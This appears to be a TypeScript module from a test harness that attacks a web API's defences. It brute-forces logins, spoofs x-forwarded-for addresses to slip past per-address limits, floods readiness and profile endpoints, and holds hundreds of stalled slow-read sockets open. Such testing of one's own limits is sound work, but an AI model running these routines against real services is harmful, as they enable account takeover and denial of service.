/** The attacks. Each runs in a thread of its own (`attacker.ts`), so that it does not delay the people's clock. */
import { once, setMaxListeners } from 'node:events';
import { Agent, type IncomingMessage, request } from 'node:http';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { setTimeout as pause } from 'node:timers/promises';

export const attacks = ['one-address', 'many-addresses', 'readiness', 'profiles', 'readers'] as const;
export type Attack = (typeof attacks)[number];

export interface Target {
  readonly base: string;
  /** The path of an answer that is longer than what sockets hold, and the token of a person who may read it. */
  readonly longAnswer: string;
  readonly token: string;
  /** Whose profile visitors read. */
  readonly userId: string;
  /** E-mails of accounts. */
  readonly emails: readonly string[];
}

/** How often each outcome came: a status with its reason, or `none` where no answer came. */
export type Outcomes = Readonly<Record<string, number>>;

const CALLS_PER_SECOND = 200;
const CONNECTIONS = 300;
const AGAIN_MS = 5_000;

/** @param signal ends the attack @returns what was answered until then */
export async function runAttack(attack: Attack, target: Target, signal: AbortSignal): Promise<Outcomes> {
  const outcomes: Record<string, number> = {};
  const note = (outcome: string): void => {
    outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
  };
  if (attack === 'readers') await stalledReaders(target, signal, note);
  else await callSteadily(target.base, (index) => callOf[attack](target, index), signal, note);
  return outcomes;
}

interface Call {
  readonly path: string;
  /** The address that it comes from. */
  readonly address: string;
  /** Only a POST has one. */
  readonly body?: object;
}

const addressOf = (index: number): string => `10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`;

const callOf: Readonly<Record<Exclude<Attack, 'readers'>, (target: Target, index: number) => Call>> = {
  /** For accounts that exist. The limits refuse all but the first. */
  'one-address': ({ emails }, index) => ({
    path: '/api/users/login',
    address: '203.0.113.7',
    body: { email: emails[index % emails.length] ?? '', password: `guess-${index}` },
  }),
  /** Each with another e-mail that looks right. No limit refuses them. */
  'many-addresses': (_target, index) => ({
    path: '/api/users/login',
    address: addressOf(index),
    body: { email: `mona.adel.${index}@hospital.example`, password: `guess-${index}` },
  }),
  readiness: (_target, index) => ({ path: '/api/ready', address: addressOf(index) }),
  profiles: ({ userId }, index) => ({ path: `/api/users/${userId}/userDetails`, address: addressOf(index) }),
};

/** In an open loop, without a sign-in. */
async function callSteadily(
  base: string,
  callAt: (index: number) => Call,
  signal: AbortSignal,
  note: (outcome: string) => void,
): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
  const began = performance.now();
  for (let index = 0; !signal.aborted; index += 1) {
    answerTo(base, agent, callAt(index)).then(
      (outcome) => signal.aborted || note(outcome),
      () => signal.aborted || note('none'),
    );
    const wait = began + ((index + 1) * 1_000) / CALLS_PER_SECOND - performance.now();
    if (wait > 0) await pause(wait, undefined, { signal }).catch(() => undefined);
  }
  agent.destroy();
}

/** @returns the outcome */
async function answerTo(base: string, agent: Agent, { path, address, body }: Call): Promise<string> {
  const call = request(new URL(path, base), {
    method: body ? 'POST' : 'GET',
    agent,
    headers: { ...(body && { 'content-type': 'application/json' }), 'x-forwarded-for': address },
  });
  call.end(body && JSON.stringify(body));
  const [answer] = (await once(call, 'response')) as [IncomingMessage];
  return outcomeOf(answer.statusCode ?? 0, await text(answer));
}

const outcomeOf = (status: number, body: string): string =>
  [status, /"reason":"([\w-]+)"/.exec(body)?.[1] ?? ''].join(' ').trim();

/** Connections that ask for a long answer, read its first bytes and no more. One that ends is opened again. */
async function stalledReaders(
  { base, longAnswer, token }: Target,
  signal: AbortSignal,
  note: (outcome: string) => void,
): Promise<void> {
  const { hostname, port } = new URL(base);
  setMaxListeners(CONNECTIONS * 2, signal);
  const reader = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      const stop = (): void => void socket.destroy();
      signal.addEventListener('abort', stop);
      socket.write(
        `GET ${longAnswer} HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: bearer ${token}\r\nconnection: close\r\n\r\n`,
      );
      const closed = once(socket, 'close');
      const first: unknown = await Promise.race([once(socket, 'data').then(([bytes]: unknown[]) => bytes), closed]);
      socket.pause();
      const answer = Buffer.isBuffer(first) ? first.toString('latin1') : '';
      const status = /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1];
      if (!signal.aborted) note(status === undefined ? 'none' : outcomeOf(Number(status), answer));
      // A refusal is whole in the first bytes. A paused socket does not see the end of the other side.
      if (status !== '200') {
        socket.destroy();
        await pause(AGAIN_MS, undefined, { signal }).catch(() => undefined);
      } else await closed;
      signal.removeEventListener('abort', stop);
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, reader));
}
